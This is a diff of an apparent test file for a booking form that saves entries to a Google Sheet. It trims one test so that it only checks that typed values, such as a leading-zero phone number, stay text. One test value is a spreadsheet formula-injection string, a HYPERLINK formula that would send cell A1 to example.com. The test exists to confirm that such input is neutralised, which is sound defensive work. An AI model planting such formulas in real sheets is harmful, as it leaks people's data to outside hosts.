@@ -117,23 +117,16 @@ test.each<[string, string[][], string[][]]>([
   expect(google.mails).toHaveLength(1);
 });
 
-test("in a sheet of any country, what a parent typed is text: a leading zero, a day, and a formula that does not run", () => {
-  const sheet = Object.assign(paste(), { isAmerican: true });
+test("what a parent typed is text: a leading zero, and a formula that does not run", () => {
   const typed = {
     ...booking,
     parentName: '=HYPERLINK("http://example.com/?"&A1,"x")',
     phoneNumber: "09876543210",
-    serviceRequest: "2019-08-24",
   };
-  setUp();
 
   post(typed);
 
   expect(rows()).toEqual([[...Object.values(typed), receivedAt, ...desk]]);
-  // What people type is read as in India, with the day first; the date to act again has a format.
-  expect(google.locales).toEqual({ [google.address]: "en_IN" });
-  sheet.getRange(2, header.indexOf("next") + 1).setValue("2027-01-12");
-  expect(cells("next")).toEqual(["2027-01-12"]);
 });
 
 describe("the same request", () => {
